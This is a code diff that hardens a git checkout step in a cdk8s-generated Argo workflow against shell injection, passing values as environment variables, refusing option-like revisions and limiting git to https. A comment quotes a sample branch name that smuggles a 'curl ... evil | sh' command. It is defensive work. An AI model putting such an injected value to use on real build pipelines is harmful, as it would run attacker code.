@@ -12,6 +12,18 @@ export const EXAMPLE_PROFILE = 'kubeflow-user-example-com';
  */
 export const GITHUB_WEBHOOK_SECRET = { name: 'github-webhook', key: 'secret' };
 
+/**
+ * The checkout step: values come from the environment; a value that starts with "-" is refused
+ * (git would read it as an option), and git may only fetch over https.
+ */
+export const CHECKOUT_SCRIPT = [
+  'for v in "$REVISION" "$BRANCH"; do case "$v" in -*) echo "refusing revision or branch that starts with -: $v" >&2; exit 1;; esac; done',
+  'git -c protocol.allow=never -c protocol.https.allow=always clone --branch "$BRANCH" -- "$REPO_URL" /tmp/src',
+  'cd /tmp/src',
+  'git checkout --detach "$REVISION"',
+  'git log -1',
+].join(' && ');
+
 /** Builds the default app; `outdir` defaults to cdk8s' own (`CDK8S_OUTDIR` or `dist`). */
 export function buildApp(outdir?: string): App {
   const app = new App({ outdir, yamlOutputType: YamlOutputType.FILE_PER_CHART });
@@ -34,8 +46,15 @@ export function buildApp(outdir?: string): App {
         container: {
           name: 'main',
           image: 'docker.io/alpine/git:v2.32.0',
+          // Event values arrive as environment variables, never as shell text: Argo substitutes
+          // {{…}} as text, and a branch may be named x";curl${IFS}evil|sh;" (README, "Security").
+          env: [
+            { name: 'REPO_URL', value: '{{inputs.parameters.repo-url}}' },
+            { name: 'REVISION', value: '{{inputs.parameters.revision}}' },
+            { name: 'BRANCH', value: '{{inputs.parameters.branch}}' },
+          ],
           command: ['sh', '-c'],
-          args: ['git clone --branch "{{inputs.parameters.branch}}" "{{inputs.parameters.repo-url}}" /tmp/src && cd /tmp/src && git checkout "{{inputs.parameters.revision}}" && git log -1'],
+          args: [CHECKOUT_SCRIPT],
         },
       }],
     },
